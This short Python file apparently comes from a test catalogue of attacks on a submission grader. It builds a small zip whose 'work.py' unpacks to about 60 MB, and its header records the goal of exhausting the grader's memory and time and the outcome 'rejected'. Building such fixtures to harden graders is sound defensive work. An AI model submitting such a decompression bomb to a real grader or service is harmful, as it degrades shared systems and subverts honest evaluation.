"""A zip of some kilobytes that holds a source of sixty megabytes."""
# /// attack
# class = 65
# goal = "exhaust the grader's memory and time by what a small archive unpacks to"
# gain = "hang"
# kind = "build"
# outcome = "rejected"
# naive = true
# ///

import zipfile


def build(folder):
    path = folder / "handed_in.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("work.py", b"[1,2,3];" * (60 << 17))
    return path
